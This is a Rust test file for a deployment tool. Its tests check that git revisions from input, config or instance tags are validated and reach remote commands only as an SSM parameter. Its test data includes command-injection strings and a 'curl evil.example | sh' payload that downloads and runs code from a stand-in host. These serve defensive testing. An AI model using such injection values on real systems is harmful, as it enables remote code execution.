//! A git revision never reaches a shell as text: it is checked against a
//! strict pattern wherever it comes from (execution input, config branch,
//! the fleet's tags) and reaches commands only as the SSM document's
//! `revision` parameter, which the agent turns into `$SSM_revision`.

use std::collections::BTreeMap;
use std::sync::Arc;

use serde_json::{Value, json};
use stepdeploy_core::config::Config;
use stepdeploy_core::errors;
use stepdeploy_core::fleet::REVISION_TAG;
use stepdeploy_core::ports::Parameters;
use stepdeploy_core::steps::lock_parameter;
use stepdeploy_local::{BAKE, DEPLOY_WORKER, REBAKE, RELEASE, SERIAL_DEPLOY, Summary, demo, run};
use stepdeploy_sim::SimSettings;
use stepdeploy_sim::demo::DemoFleet;

/// Values that would run commands, or be read as options, if spliced into a command line.
const HOSTILE: &[&str] = &["$(id)", "main;id", "main`id`", "main\nid", "--upload-pack=touch /tmp/pwned", "a b"];

async fn start(fleet: &DemoFleet, config: Arc<Config>, definition: &str, input: Value) -> Summary {
    run(&fleet.sim, config, definition, input, &fleet.group, Arc::new(|_| {})).await.1
}

fn nothing_happened(fleet: &DemoFleet, before: &BTreeMap<String, usize>) {
    let calls = fleet.sim.call_counts();
    for op in ["SendCommand", "RunInstances", "UpdateAutoScalingGroup", "SuspendProcesses", "CreateRule"] {
        assert_eq!(calls.get(op), before.get(op), "{op} was called");
    }
    assert!(fleet.sim.commands_sent().is_empty());
    let lock = lock_parameter("demo", "demo");
    assert!(futures::executor::block_on(fleet.sim.get_parameter(&lock)).unwrap().is_none(), "the lock was left taken");
}

#[tokio::test]
async fn a_hostile_revision_in_the_input_is_refused_before_anything_runs() {
    for (definition, extra) in [
        (DEPLOY_WORKER, json!({})),
        (BAKE, json!({})),
        (RELEASE, json!({})),
        (SERIAL_DEPLOY, json!({"launch_template_version": "2", "run_migrations": true})),
    ] {
        for revision in HOSTILE {
            let (fleet, config) = demo(1, 2, SimSettings::default());
            let before = fleet.sim.call_counts();
            let mut input = json!({"environment": "demo", "revision": revision});
            input.as_object_mut().unwrap().extend(extra.as_object().unwrap().clone());
            let summary = start(&fleet, config, definition, input).await;
            assert_eq!(summary.status, "FAILED", "{revision:?}");
            assert_eq!(summary.error.as_deref(), Some(errors::INVALID_INPUT), "{revision:?}: {:?}", summary.cause);
            let cause = summary.cause.clone().unwrap_or_default();
            assert!(cause.contains("revision: ") && cause.contains("is not allowed"), "{revision:?}: {cause}");
            nothing_happened(&fleet, &before);
        }
    }
}

#[tokio::test]
async fn a_hostile_branch_in_the_config_is_refused() {
    let (fleet, config) = demo(1, 2, SimSettings::default());
    let mut config = (*config).clone();
    config.environments["demo"].branch = Some("main;curl evil.example | sh".into());
    let before = fleet.sim.call_counts();
    let summary = start(&fleet, Arc::new(config.clone()), DEPLOY_WORKER, json!({"environment": "demo"})).await;
    assert_eq!(summary.error.as_deref(), Some(errors::INVALID_INPUT));
    assert!(summary.cause.unwrap_or_default().contains("environments.demo.branch: "));
    nothing_happened(&fleet, &before);
    // config check refuses it too.
    let problems = Config::from_yaml_str(&config.to_yaml()).unwrap_err().to_string();
    assert!(problems.contains("environments.demo.branch: \"main;curl evil.example | sh\" is not allowed: it contains ';'"), "{problems}");
}

#[tokio::test]
async fn a_hostile_revision_tag_on_the_fleet_is_not_rebaked() {
    // Anyone who can tag an instance could set it: the rebake plan checks it like input.
    let (fleet, config) = demo(1, 2, SimSettings::default());
    let hostile = BTreeMap::from([(REVISION_TAG.to_string(), "$(curl evil.example|sh)".to_string())]);
    let ids: Vec<String> = fleet.sim.live_in_group(&fleet.group).into_iter().map(|(id, _)| id).collect();
    fleet.sim.tag_ec2_resources(&ids.iter().map(String::as_str).collect::<Vec<_>>(), &hostile);
    let before = fleet.sim.call_counts();
    let summary = start(&fleet, config, REBAKE, json!({"environment": "demo"})).await;
    assert_eq!(summary.error.as_deref(), Some(errors::INVALID_INPUT), "{:?}", summary.cause);
    // The rebake's plan fails as a Lambda task, so the cause is its error document.
    let cause = summary.cause.unwrap_or_default();
    let message = serde_json::from_str::<Value>(&cause).ok().and_then(|v| v["errorMessage"].as_str().map(str::to_string)).unwrap_or(cause);
    assert!(message.contains("the running revision (tag stepdeploy:revision on the fleet): \"$(curl evil.example|sh)\" is not allowed"), "{message}");
    nothing_happened(&fleet, &before);
}

#[tokio::test]
async fn commands_carry_the_revision_as_a_parameter_never_in_their_text() {
    let (fleet, config) = demo(1, 2, SimSettings::default());
    let summary = start(&fleet, config.clone(), DEPLOY_WORKER, json!({"environment": "demo", "revision": "release/1.2"})).await;
    assert_eq!(summary.status, "SUCCEEDED", "{:?}", summary.cause);
    let sent = fleet.sim.commands_as_sent();
    let expected = [&config.environments["demo"].commands.worker_deploy.command, &config.environments["demo"].commands.migrate.command];
    assert_eq!(sent.len(), 2, "{sent:?}");
    for ((text, revision), configured) in sent.iter().zip(expected) {
        assert_eq!(text, &configured.replace("{revision}", "\"$SSM_revision\""));
        assert!(!text.contains("release/1.2"), "{text}");
        assert_eq!(revision, "release/1.2");
    }
}
